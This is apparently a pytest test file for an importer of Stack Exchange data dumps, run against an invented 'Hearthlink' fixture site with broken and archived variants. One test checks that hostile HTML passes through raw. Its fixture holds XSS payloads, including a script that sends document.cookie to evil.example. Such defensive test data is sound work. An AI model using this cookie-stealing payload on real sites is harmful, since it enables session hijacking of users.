"""Stack Exchange dump importer on the invented Hearthlink dump and its broken variants."""
from __future__ import annotations

import gzip
import shutil
import tarfile
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import py7zr
import pytest

from harvest.engine.importers.stackexchange import (
    DumpError, StackExchangeDumpImporter, count_posts, read_post_links,
)
from harvest.engine.records import CommentRecord, ItemError, LinkRecord, PostRecord, ThreadRecord

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "harvest" / "stackexchange"
HEARTHLINK = FIXTURES / "hearthlink"
BROKEN = FIXTURES / "broken"
SITE = "https://community.hearthlink.example"


def run(path, checkpoint=None, **options):
    options.setdefault("site_url", SITE)
    return list(StackExchangeDumpImporter(path, **options).iter_records(checkpoint))


def only(records, kind):
    return [record for record, _cursor in records if isinstance(record, kind)]


@pytest.fixture(scope="module")
def full():
    return run(HEARTHLINK)


@pytest.fixture(scope="module")
def threads(full):
    return {t.external_id: t for t in only(full, ThreadRecord)}


@pytest.fixture(scope="module")
def answers(full):
    return {p.external_id: p for p in only(full, PostRecord)}


def write_posts(folder: Path, rows: list[str]) -> Path:
    """A Posts.xml in the real dump layout (BOM, CRLF, self-closing rows)."""
    folder.mkdir(parents=True, exist_ok=True)
    text = '\ufeff<?xml version="1.0" encoding="utf-8"?>\r\n<posts>\r\n'
    text += "".join(f"  {row}\r\n" for row in rows) + "</posts>\r\n"
    (folder / "Posts.xml").write_text(text, encoding="utf-8", newline="")
    return folder


# -- what a reader of the imported site would see ------------------------------------

def test_every_question_answer_comment_and_link_is_imported_in_order(full):
    assert not only(full, ItemError)
    assert len(only(full, ThreadRecord)) == 26
    assert len(only(full, PostRecord)) == 49
    assert len(only(full, CommentRecord)) == 29
    assert len(only(full, LinkRecord)) == 11
    phases = [cursor["phase"] for _record, cursor in full]
    assert phases == sorted(phases, key=["posts", "comments", "links"].index)
    for phase in ("posts", "comments", "links"):
        ids = [cursor["last_id"] for _r, cursor in full if cursor["phase"] == phase]
        assert ids == sorted(ids) and len(set(ids)) == len(ids)


def test_question_thread_fields(threads):
    thread = threads["1"]
    assert thread.title == "Beacon satellite drops offline every night around 2 am"
    assert thread.url == f"{SITE}/questions/1"
    assert thread.tags == ("beacon", "mesh", "connectivity")
    assert (thread.score, thread.view_count, thread.answer_count) == (14, 3120, 3)
    assert thread.created_at == datetime(2010, 11, 3, 18, 22, 41, 120000, tzinfo=timezone.utc)
    assert thread.last_activity_at == datetime(2022, 5, 5, 5, 5, 5, 50000, tzinfo=timezone.utc)
    assert thread.complete is False
    (question,) = thread.posts
    assert question.is_question and question.external_id == "1"
    assert question.body_html.startswith("<p>I have an H1 router in the living room")
    assert question.edited_at == datetime(2010, 11, 5, 10, 1, tzinfo=timezone.utc)
    assert question.author_external_id == "2"


def test_accepted_answers(threads, answers):
    assert threads["1"].accepted_post_external_id == "2"
    assert threads["74"].accepted_post_external_id == "76"  # the second answer was accepted
    assert threads["34"].accepted_post_external_id == ""
    accepted = sorted(int(p.external_id) for p in answers.values() if p.is_accepted)
    assert accepted == sorted(int(t.accepted_post_external_id) for t in threads.values()
                              if t.accepted_post_external_id)
    assert len(accepted) == 17
    assert not answers["75"].is_accepted


def test_answers_point_at_their_thread(answers):
    late = answers["71"]  # answered twelve years after the question
    assert late.thread_external_id == "1"
    assert late.url == f"{SITE}/a/71"
    assert late.author_name == "Ravi Chandra"
    assert not late.is_question
    assert {p.thread_external_id for p in answers.values()} >= {"1", "4", "9", "74"}


def test_duplicates_and_closed_questions(threads):
    for duplicate, original in {"18": "4", "20": "9", "61": "1", "63": "4"}.items():
        thread = threads[duplicate]
        assert thread.duplicate_of_external_id == original
        assert thread.is_closed and thread.closed_reason == "duplicate"
    off_topic = threads["72"]
    assert off_topic.is_closed and off_topic.closed_reason == "" and off_topic.duplicate_of_external_id == ""
    assert not threads["1"].is_closed
    assert sum(t.is_closed for t in threads.values()) == 5


def test_author_names(threads, answers, full):
    assert threads["1"].author_name == "Maya Okafor"  # from Users.xml
    assert threads["18"].author_name == "user77"  # deleted user: OwnerDisplayName
    assert threads["34"].author_name == "user40"  # not in Users.xml
    assert threads["69"].author_name == "anonymous"  # no owner at all
    assert answers["2"].author_name == "Tomasz Wren"
    comments = {c.external_id: c for c in only(full, CommentRecord)}
    names = {c.author_name for c in comments.values()}
    assert {"user12", "user42", "anonymous", "Ines at Hearthlink Support"} <= names


def test_comments(full):
    comments = only(full, CommentRecord)
    first = comments[0]
    assert first.post_external_id == "1"
    assert first.body == "Which firmware version is on the router?"
    assert first.author_name == "Gus Halvorsen"
    assert first.score == 2
    assert first.created_at == datetime(2010, 11, 3, 18, 40, tzinfo=timezone.utc)
    on_answers = [c for c in comments if c.post_external_id == "2"]
    assert [c.body for c in on_answers] == ["Moving the update window to 5 am worked, thank you!"]


def test_links(full):
    links = only(full, LinkRecord)
    assert LinkRecord(from_external_id="18", to_external_id="4", kind="duplicate") in links
    assert LinkRecord(from_external_id="54", to_external_id="1", kind="related") in links
    assert sum(link.kind == "duplicate" for link in links) == 4
    assert read_post_links(HEARTHLINK) == links


def test_licence_from_the_dump(threads):
    assert threads["1"].license == "CC BY-SA 2.5"
    assert threads["13"].license == "CC BY-SA 3.0"
    assert threads["74"].license == "CC BY-SA 4.0"


def test_licence_by_date_when_the_dump_has_none(tmp_path, threads):
    old_dump = tmp_path / "old"
    old_dump.mkdir()
    for source in HEARTHLINK.iterdir():
        text = source.read_text(encoding="utf-8")
        for licence in ("CC BY-SA 2.5", "CC BY-SA 3.0", "CC BY-SA 4.0"):
            text = text.replace(f' ContentLicense="{licence}"', "")
        (old_dump / source.name).write_text(text, encoding="utf-8")
    by_date = {t.external_id: t.license for t in only(run(old_dump), ThreadRecord)}
    assert by_date == {key: t.license for key, t in threads.items()}
    forced = {t.license for t in only(run(old_dump, license_default="CC BY-SA 4.0"), ThreadRecord)}
    assert forced == {"CC BY-SA 4.0"}


def test_pipe_separated_tags_and_no_site_url(tmp_path):
    folder = write_posts(tmp_path, [
        '<row Id="1" PostTypeId="1" CreationDate="2024-04-01T10:00:00.000" Score="0" ViewCount="1" '
        'Body="&lt;p&gt;Mesh?&lt;/p&gt;" OwnerUserId="3" Title="Mesh" Tags="|mesh|wi-fi|" AnswerCount="0" />'])
    (thread,) = only(run(folder, site_url=""), ThreadRecord)
    assert thread.tags == ("mesh", "wi-fi")
    assert thread.url == ""
    assert thread.author_name == "user3"


def test_count_posts():
    assert count_posts(HEARTHLINK) == 77  # 26 questions, 49 answers, a tag wiki and its excerpt


# -- archives -----------------------------------------------------------------------

def make_archive(kind: str, target: Path) -> Path:
    files = sorted(HEARTHLINK.iterdir())
    if kind == "zip":
        path = target / "hearthlink.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for file in files:
                archive.write(file, f"hearthlink.example.com/{file.name}")  # files in a sub-folder
    elif kind == "7z":
        path = target / "hearthlink.example.com.7z"
        with py7zr.SevenZipFile(path, "w") as archive:
            for file in files:
                archive.write(file, file.name)
    else:  # a tarball, once named as such and once as a plain .gz
        path = target / ("hearthlink.tar.gz" if kind == "tar.gz" else "hearthlink-dump.gz")
        with tarfile.open(path, "w:gz") as archive:
            archive.add(HEARTHLINK, arcname="hearthlink")
    return path


@pytest.mark.parametrize("kind", ["zip", "7z", "tar.gz", "tar-as-gz"])
def test_archives_give_the_same_records_as_the_folder(kind, tmp_path, full):
    archive = make_archive(kind, tmp_path)
    assert run(archive) == full
    assert count_posts(archive) == 77
    assert len(read_post_links(archive)) == 11


def test_gzip_of_posts_xml_alone(tmp_path, full):
    path = tmp_path / "posts-dump.gz"  # the name does not say what is inside; the root element does
    with open(HEARTHLINK / "Posts.xml", "rb") as source, gzip.open(path, "wb") as target:
        shutil.copyfileobj(source, target)
    records = run(path)
    assert [r.external_id for r in only(records, ThreadRecord)] == [t.external_id for t in only(full, ThreadRecord)]
    assert len(only(records, PostRecord)) == 49
    assert not only(records, CommentRecord) and not only(records, LinkRecord)
    assert only(records, ThreadRecord)[0].author_name == "user2"  # no Users.xml to ask


def test_cut_off_gzip_keeps_what_was_read(tmp_path):
    rows = [f'<row Id="{n}" PostTypeId="1" CreationDate="2024-01-01T00:00:00.000" Score="0" ViewCount="1" '
            f'Body="&lt;p&gt;Question {n} about guest network passwords.&lt;/p&gt;" Title="Guest network {n}" '
            'Tags="&lt;guest-network&gt;" AnswerCount="0" />' for n in range(1, 5001)]
    posts = write_posts(tmp_path / "dump", rows) / "Posts.xml"
    data = gzip.compress(posts.read_bytes())
    path = tmp_path / "Posts.xml.gz"
    path.write_bytes(data[: len(data) * 2 // 3])
    records = run(path)
    *good, (error, cursor) = records
    assert isinstance(error, ItemError) and error.item == "Posts.xml" and cursor is None
    assert len(good) > 1000 and not only(good, ItemError)
    assert [r.external_id for r, _c in good] == [str(n) for n in range(1, len(good) + 1)]


# -- resuming -----------------------------------------------------------------------

def test_resume_from_any_cursor_yields_exactly_the_rest(full):
    positions = list(range(0, len(full), 3)) + [73, 74, 75, len(full) - 1]
    for position in positions:
        cursor = full[position][1]
        assert run(HEARTHLINK, cursor, batch_hint=7) == full[position + 1:], cursor


def test_resume_keeps_accepted_flag_of_answers_whose_question_came_before(full):
    rest = run(HEARTHLINK, {"phase": "posts", "last_id": 75})
    answer = rest[0][0]
    assert answer.external_id == "76" and answer.is_accepted


def test_a_cursor_from_elsewhere_is_refused():
    with pytest.raises(ValueError):
        run(HEARTHLINK, {"page": 3})


# -- broken input -------------------------------------------------------------------

def test_truncated_file_yields_one_error_after_the_intact_rows():
    records = run(BROKEN / "truncated")
    assert [r.external_id for r, _c in records[:-1]] == ["1", "2", "3", "4", "5", "6"]
    error, cursor = records[-1]
    assert error.item == "Posts.xml" and cursor is None
    assert error.message.startswith("malformed XML at line 9:")


def test_bad_rows_are_reported_and_skipped():
    records = run(BROKEN / "badrows")
    kept = [(type(r).__name__, getattr(r, "external_id", getattr(r, "item", ""))) for r, _c in records]
    assert kept == [
        ("ThreadRecord", "1"),
        ("PostRecord", "2"),
        ("ItemError", "Posts.xml row Id=(none), row #3"),
        ("ItemError", "Posts.xml row Id=abc"),
        ("ItemError", "Posts.xml row Id=5"),
        ("ItemError", "Posts.xml row Id=6"),
        ("ItemError", "Posts.xml row Id=7"),
        ("ThreadRecord", "8"),
        ("PostRecord", "9"),
    ]
    messages = [r.message for r in only(records, ItemError)]
    assert messages == ["missing Id", "invalid Id 'abc'", "invalid CreationDate '2021-13-45T99:00:00.000'",
                        "missing CreationDate", "answer without ParentId"]
    after_bad_row = run(BROKEN / "badrows", {"phase": "posts", "last_id": 5})
    assert [getattr(r, "external_id", getattr(r, "item", "")) for r, _c in after_bad_row] == [
        "Posts.xml row Id=6", "Posts.xml row Id=7", "8", "9"]


def test_hostile_html_is_passed_on_raw_for_the_store_to_sanitize():
    records = run(BROKEN / "hostile")
    threads = only(records, ThreadRecord)
    assert not only(records, ItemError)
    assert threads[0].title == "<script>alert('title')</script> Router login page looks odd"
    body = threads[0].posts[0].body_html
    assert '<script>document.location="https://evil.example/?c="+document.cookie</script>' in body
    assert 'onerror="alert(1)"' in body and 'href="javascript:alert(2)"' in body
    assert threads[1].title == 'Title with & entities <b> and "quotes"'
    (answer,) = only(records, PostRecord)
    assert "<iframe" in answer.body_html


@pytest.mark.parametrize("megabytes", [5, 11])  # 11 MB passes libxml2's default 10 MB cap
def test_huge_body(tmp_path, megabytes):
    body = "&lt;p&gt;" + "Beacon placement notes. " * (megabytes * 1024 * 1024 // 24) + "&lt;/p&gt;"
    folder = write_posts(tmp_path, [
        f'<row Id="1" PostTypeId="1" CreationDate="2024-01-01T00:00:00.000" Score="1" ViewCount="2" Body="{body}" '
        'Title="Everything about Beacon placement" Tags="&lt;beacon&gt;" AnswerCount="1" />',
        '<row Id="2" PostTypeId="2" ParentId="1" CreationDate="2024-01-02T00:00:00.000" Score="0" '
        'Body="&lt;p&gt;Thanks.&lt;/p&gt;" />'])
    records = run(folder)
    assert not only(records, ItemError)
    (thread,) = only(records, ThreadRecord)
    assert len(thread.posts[0].body_html) > megabytes * 1024 * 1024 - 100
    assert only(records, PostRecord)[0].body_html == "<p>Thanks.</p>"


def test_folder_without_posts_xml_raises_before_any_record(tmp_path):
    shutil.copy(HEARTHLINK / "Users.xml", tmp_path / "Users.xml")
    records = StackExchangeDumpImporter(tmp_path).iter_records(None)
    with pytest.raises(DumpError, match="Posts.xml not found .*Users.xml"):
        next(records)


@pytest.mark.parametrize("name, content", [
    ("dump.zip", b"PK\x03\x04 this is not really a zip"),
    ("dump.7z", b"7z\xbc\xaf\x27\x1c garbage"),
    ("dump.gz", b"\x1f\x8b\x08 broken gzip"),
    ("dump.rar", b"Rar!"),
])
def test_unreadable_archive_raises_dump_error(tmp_path, name, content):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(DumpError):
        run(tmp_path / name)
    with pytest.raises(DumpError):
        count_posts(tmp_path / name)


def test_missing_path_raises_dump_error(tmp_path):
    with pytest.raises(DumpError, match="not found"):
        run(tmp_path / "nowhere")
